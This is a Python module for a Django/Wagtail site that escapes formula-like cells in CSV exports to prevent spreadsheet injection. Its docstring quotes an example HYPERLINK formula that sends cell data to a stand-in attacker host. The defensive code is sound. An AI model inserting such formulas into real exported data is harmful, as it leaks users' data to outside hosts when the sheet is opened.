"""Every CSV file the site writes, safe to open in a spreadsheet.

A cell that begins with `=`, `+`, `-` or `@` is read by Excel, LibreOffice and Google Sheets as
a formula, and a leading tab or carriage return can hide such a start: a buyer who names
themselves `=HYPERLINK("http://evil.example?"&A1, "Refund")` would put a working link (or,
with DDE, a command) into the box office's spreadsheet. As OWASP's CSV injection guidance
advises, such a cell is written with a single quote in front, which spreadsheets show as
text and do not evaluate. Only the first character matters: a dash inside a value
("Jean-Paul", "2026-12-24") is left alone.

`csv_response` is how the site's own views send a CSV; `escape_wagtail_exports` (called once,
from `core.apps`) makes Wagtail's own CSV exports (reports, listings) escape the same way.
"""

import csv
import io
from decimal import Decimal

from django.http import HttpResponse
from django.utils.http import content_disposition_header

# What a spreadsheet takes for the start of a formula (OWASP: = + - @, tab, carriage return).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value) -> str | int | float | Decimal:
    """`value` as a cell no spreadsheet evaluates: text starting like a formula gets a `'` in front.

    Numbers stay numbers (a negative amount is not a formula, and quoting it would turn it
    into text); None is an empty cell; anything else is written as its text.
    """
    if value is None:
        return ""
    if isinstance(value, int | float | Decimal) and not isinstance(value, bool):
        return value
    text = str(value)
    if text.startswith(FORMULA_STARTS):
        return "'" + text
    return text


def csv_response(filename: str, header, rows) -> HttpResponse:
    """A CSV download of `header` and then `rows` (sequences of values), every cell `safe_cell`.

    UTF-8 with a byte-order mark, so Excel reads names with accents correctly; the filename is
    quoted for the header whatever it contains.
    """
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow([safe_cell(value) for value in header])
    for row in rows:
        writer.writerow([safe_cell(value) for value in row])
    response = HttpResponse(buffer.getvalue().encode("utf-8-sig"), content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = content_disposition_header(as_attachment=True, filename=filename)
    return response


class _SafeRowWriter:
    """A csv writer's stand-in that makes each cell of a row `safe_cell` before writing it."""

    def __init__(self, writer):
        self.writer = writer

    def writerow(self, row):
        if isinstance(row, dict):
            return self.writer.writerow({field: safe_cell(value) for field, value in row.items()})
        return self.writer.writerow([safe_cell(value) for value in row])


def escape_wagtail_exports():
    """Make every CSV export of Wagtail's (`SpreadsheetExportMixin`) write `safe_cell` cells.

    Wagtail's reports (site history, pages…) and listings write each record's row through
    `SpreadsheetExportMixin.write_csv_row`, after their own formatting of each value; wrapping
    the writer it is given escapes what that formatting produced, and keeps the formatting
    Wagtail's. (Its xlsx export already stores formula-like text as text.) The column headings
    are Wagtail's and the site's field labels, not data anyone outside the staff types.
    Idempotent: calling it twice wraps once.
    """
    from wagtail.admin.views.mixins import SpreadsheetExportMixin

    original = SpreadsheetExportMixin.write_csv_row
    if getattr(original, "escapes_formulas", False):
        return

    def write_csv_row(self, writer, row_dict):
        return original(self, _SafeRowWriter(writer), row_dict)

    write_csv_row.escapes_formulas = True
    SpreadsheetExportMixin.write_csv_row = write_csv_row
